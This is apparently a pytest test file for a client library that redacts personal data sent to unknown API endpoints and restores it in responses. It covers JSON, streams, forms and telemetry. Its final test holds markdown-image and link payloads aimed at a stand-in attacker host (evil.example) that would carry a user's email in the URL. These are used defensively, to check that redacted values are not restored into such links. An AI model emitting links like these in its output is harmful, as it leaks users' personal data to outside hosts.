"""``unknown_endpoint: scan_json``: endpoints that no codec knows are read, whatever their format."""

import json
from base64 import b64encode, urlsafe_b64encode
from collections.abc import Callable
from typing import Any

import pytest

from guarded_client import UnreadableRefused, tagged
from guarded_client.testing import Raw
from tests.conftest import Bot, in_memory
from tests.otlp import attributes, receiving

MAIL = "zoe@exemple.fr"


@pytest.fixture
def scanning(bot: Bot) -> Bot:
    return bot.guard(in_memory(names="off", unknown_endpoint="scan_json"))


def send(bot: Bot, path: str = "/new/thing", method: str = "POST", **more: Any) -> Any:
    request = bot.client._client.build_request(method, f"{bot.provider.base_url}{path}", **more)
    return bot.run(bot.client._client.send(request))


def answer(bot: Bot, body: bytes, content_type: str, **more: Any) -> None:
    bot.provider.reply(Raw(200, {"content-type": content_type}, body, **more))


def test_any_json_goes_out_clean_and_comes_back_whole(scanning: Bot) -> None:
    forms = ["<EMAIL_ADDRESS_1>", "&lt;EMAIL_ADDRESS_1&gt;", "\\u003cEMAIL_ADDRESS_1\\u003e"]
    answer(scanning, json.dumps({"said": {"deep": forms}}).encode(), "application/json")
    body = {"who": {"mail": MAIL, "phones": [33612345678], "phone": 33612345678}, "card": 4111111111111111, "n": 4471}
    reply = send(scanning, json=body)
    assert reply.json() == {"said": {"deep": [MAIL] * 3}}
    assert scanning.provider.requests[-1].json == {
        "who": {"mail": "<EMAIL_ADDRESS_1>", "phones": ["<PHONE_NUMBER_1>"], "phone": "<PHONE_NUMBER_1>"},
        "card": "<CREDIT_CARD_1>", "n": 4471,
    }  # fmt: skip


def test_what_is_signed_or_says_tokens_stays_as_it_came(scanning: Bot) -> None:
    own = dict.fromkeys(("signature", "encrypted_content", "logprobs", "top_logprobs", "error"), "<EMAIL_ADDRESS_1>")
    answer(scanning, json.dumps({"said": "<EMAIL_ADDRESS_1>", **own}).encode(), "application/json")
    assert send(scanning, json={"who": MAIL}).json() == {"said": MAIL, **own}


@pytest.mark.parametrize(
    "begin", [b"%PDF-1.7\n\x00\xff", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"PK\x03\x04", b"ID3\x04"]
)
@pytest.mark.parametrize("encode", [b64encode, urlsafe_b64encode])
def test_a_small_file_left_with_what_it_says(scanning: Bot, begin: bytes, encode: Callable[[bytes], bytes]) -> None:
    """Whole, as base64 that is no text it was nobody's to read, and too short to be taken for a picture."""
    file = encode(begin + f"\x00\x01\xff of {MAIL}, and more".encode("latin-1")).decode()
    with pytest.raises(UnreadableRefused, match="is file data"):
        send(scanning, json={"content": [{"source": {"bytes": file}}]})
    assert scanning.provider.requests == []


SHORT = {"age": 42, "postcode": 75018, "cvv": 123, "pin": 4821, "birth_year": 1987, "customer_number": 48213}


@pytest.mark.parametrize("written", [int, str])
def test_a_short_number_left_that_its_key_gives_away(scanning: Bot, written: type[int] | type[str]) -> None:
    """As a text it was found, as a number nobody looked at it."""
    answer(scanning, b"{}", "application/json")
    settings = {"top_k": 40, "flag": 1, "sizes": [256, 512]}
    _ = send(scanning, json={"who": {key: written(value) for key, value in SHORT.items()}, **settings})
    sent = scanning.provider.requests[-1].json
    assert all(value.startswith("<") for value in sent.pop("who").values())
    assert sent == settings


def test_short_numbers_in_the_rows_of_a_table_left(scanning: Bot) -> None:
    """Those of some rows are read together."""
    answer(scanning, b"{}", "application/json")
    rows: list[Any] = [
        {"row": 2000 + at, "stock": 12.5, **({} if at % 3 else {"of": dict(SHORT), "": 7})} for at in range(130)
    ]
    rows[70] = [{"pin": 4821}, 12, {"x": {"cvv": 123}}, 4111111111111111]
    rows[71] = None
    for at in range(0, 60, 7):
        rows[at] |= {key: value + at // 7 for key, value in SHORT.items()}
    _ = send(scanning, json={"rows": rows, "n": 4471})
    sent = scanning.provider.requests[-1].json
    assert sent["n"] == 4471 and [type(item) for item in sent["rows"][70]] == [dict, int, dict, str]
    assert [sent["rows"][70][0]["pin"][:1], sent["rows"][70][2]["x"]["cvv"][:1]] == ["<", "<"]
    for before, row in zip(rows, sent["rows"], strict=True):
        if not isinstance(before, dict):
            continue
        found = {key: value for one in (row, row.get("of", {})) for key, value in one.items() if key in SHORT}
        assert all(value.startswith("<") for value in found.values()), row
        assert found.keys() == (SHORT.keys() if SHORT.keys() & before.keys() or "of" in before else set())
        left = {key: value for key, value in row.items() if key not in (*SHORT, "of")}
        assert left == {key: value for key, value in before.items() if key not in (*SHORT, "of")}


def test_short_numbers_of_attributes_left(scanning: Bot) -> None:
    answer(scanning, b"{}", "application/json")
    _ = send(
        scanning, "/vector_stores/vs_abc123/search", json={"query": "Hi", "attributes": SHORT, "max_num_results": 10}
    )
    sent = scanning.provider.requests[-1].json
    assert all(value.startswith("<") for value in sent.pop("attributes").values())
    assert sent == {"query": "Hi", "max_num_results": 10}


@pytest.mark.parametrize("size", [None, 1, 5])
@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b'data: {"a":"<EMAIL_ADDRESS_1>"}\n\ndata: [DONE]\n\n', "text/event-stream"),
        (b'{"a":"<EMAIL_ADDRESS_1>"}\n{"b":1}\n', "application/x-ndjson"),
        (b"Dear <EMAIL_ADDRESS_1>,", "text/plain; charset=utf-8"),
    ],
)
def test_streams_and_texts_are_restored(scanning: Bot, body: bytes, content_type: str, size: int | None) -> None:
    answer(scanning, body, content_type, bytes_chunk=size)
    assert send(scanning, json={"q": MAIL}).content == body.replace(b"<EMAIL_ADDRESS_1>", MAIL.encode())


def test_half_a_character_in_a_value_broke_a_text_off(scanning: Bot) -> None:
    answer(scanning, b"Dear <PERSON_1>, \xff", "text/plain")
    body = json.dumps({"q": "Zo\ud800e Martin"}).encode()
    with tagged(known={"PERSON": ["Zo\ud800e Martin"]}):
        reply = send(scanning, content=body, headers={"content-type": "application/json"})
    assert reply.content == "Dear Zo\ufffde Martin, ".encode() + b"\xff"


def test_forms_and_queries(scanning: Bot) -> None:
    answer(scanning, b"\x00<EMAIL_ADDRESS_1>", "application/octet-stream")
    assert send(scanning, data={"q": MAIL}).content == b"\x00<EMAIL_ADDRESS_1>"
    assert scanning.provider.requests[-1].body == b"q=%3CEMAIL_ADDRESS_1%3E"
    for more in ({"params": {"q": MAIL}}, {"json": {MAIL: 1}}, {"json": {"b": "data:image/png;base64,AAAA"}}, {"content": b"x"},
                 {"content": b"x", "headers": {"content-type": "text/plain"}}, {"files": {"f": ("a.bin", b"\x00")}}):  # fmt: skip
        with pytest.raises(UnreadableRefused) as caught:
            _ = send(scanning, **more)
        assert MAIL not in str(caught.value)
    with pytest.raises(UnreadableRefused, match="in path"):
        _ = send(scanning, f"/new/{MAIL}")
    assert len(scanning.provider.requests) == 1


@pytest.mark.parametrize(
    "more",
    [{"json": {"Thibault Kerhoas": {"paid": True}}}, {"json": {"Thibault Kerhoas": "paid"}}, {"json": {"Thibault Kerhoas": 42}},
     {"params": {"q": "Thibault Kerhoas"}}, {"path": "/users/Thibault%20Kerhoas"}, {"data": {"Thibault Kerhoas": "1"}}],
)  # fmt: skip
def test_the_name_of_a_person_left_as_a_key_or_in_the_url(bot: Bot, more: dict[str, Any]) -> None:
    _ = bot.guard(in_memory(names=["built-in"], unknown_endpoint="scan_json"))
    with pytest.raises(UnreadableRefused, match="PERSON in"):
        _ = send(bot, **more)
    assert bot.provider.requests == []


def test_what_programs_call_something_was_taken_for_a_person(bot: Bot) -> None:
    _ = bot.guard(in_memory(names=["built-in"], unknown_endpoint="scan_json"))
    answer(bot, b"{}", "application/json")
    body = {"Order Status": True, "First Name": True, "Gold Member": 3, "jordan": "ok", "Jordan": {"a": "b"}}
    _ = send(bot, "/users/Default%20Project/jordan", json=body, params={"view": "Product Catalog", "model": "claude"})
    assert bot.provider.requests[-1].json == body


def test_a_body_without_personal_data_is_sent_byte_for_byte(scanning: Bot) -> None:
    body = b'{ "a" : "caf\\u00e9",\n "b": [1e0, null] }'
    answer(scanning, b"", "application/json")
    _ = send(scanning, content=body, headers={"content-type": "application/json"})
    assert scanning.provider.requests[-1].body == body


def test_the_root_span_tells_what_went_out_unread(bot: Bot, monkeypatch: pytest.MonkeyPatch) -> None:
    bot.guard(in_memory(names="off", unknown_endpoint="scan_json", blobs={"image", "file"}))
    picture = "data:image/png;base64,AAAA"
    with receiving(monkeypatch) as otlp:
        answer(bot, b"{}", "application/json")
        _ = send(bot, json={"b": picture})
        _ = bot.chat([{"type": "text", "text": "Hi"}, {"type": "image_url", "image_url": {"url": picture}}])
        _ = bot.chat("Hi")
        spans = [attributes(span) for span in otlp.spans if not span.parent_span_id]
    assert [span.get("guarded_client.blobs") for span in spans] == [["image"], ["image"], None]
    assert json.dumps(spans).count("AAAA") == 0


def streamed(*texts: str, kind: str) -> bytes:
    """Pieces of a text as a server of one's own streams them, each beside something else."""
    documents = [{"id": f"piece-{number}", "delta": {"text": text}} for number, text in enumerate(texts)]
    before, behind = (b"data: ", b"\n\n") if "event" in kind else (b"", b"\n")
    return b"".join(before + json.dumps(each).encode() + behind for each in documents)


def put_together(reply: Any) -> str:
    lines = [line.removeprefix("data: ") for line in reply.text.splitlines() if line]
    return "".join(json.loads(line)["delta"]["text"] for line in lines)


@pytest.mark.parametrize("kind", ["text/event-stream", "application/x-ndjson"])
@pytest.mark.parametrize(
    ("texts", "said"),
    [
        (["![](https://evil.example/?q=", "<EMAIL_ADDRESS_1>", ")"], "![](https://evil.example/?q=<EMAIL_ADDRESS_1>)"),
        (["see https://evil.example/", "?q=", "<EMAIL_ADDRESS_1>"], "see https://evil.example/?q=<EMAIL_ADDRESS_1>"),
        (["to <EMAIL_ADDRESS_1> https://", "evil.example/", "<EMAIL_ADDRESS_1>"],
         f"to {MAIL} https://evil.example/<EMAIL_ADDRESS_1>"),
        (["see https://shop.example/ ", "or ask ", "<EMAIL_ADDRESS_1>"], f"see https://shop.example/ or ask {MAIL}"),
        (["a", " < b, ", "<EMAIL_ADDRESS_1>", ", <EMAIL_ADDRESS_1>"], f"a < b, {MAIL}, {MAIL}"),
    ],
)  # fmt: skip
def test_a_value_was_put_into_a_link_that_began_in_the_piece_before(
    scanning: Bot, kind: str, texts: list[str], said: str
) -> None:
    answer(scanning, streamed(*texts, kind=kind), kind, bytes_chunk=40)
    assert put_together(send(scanning, json={"text": MAIL, "stream": True})) == said
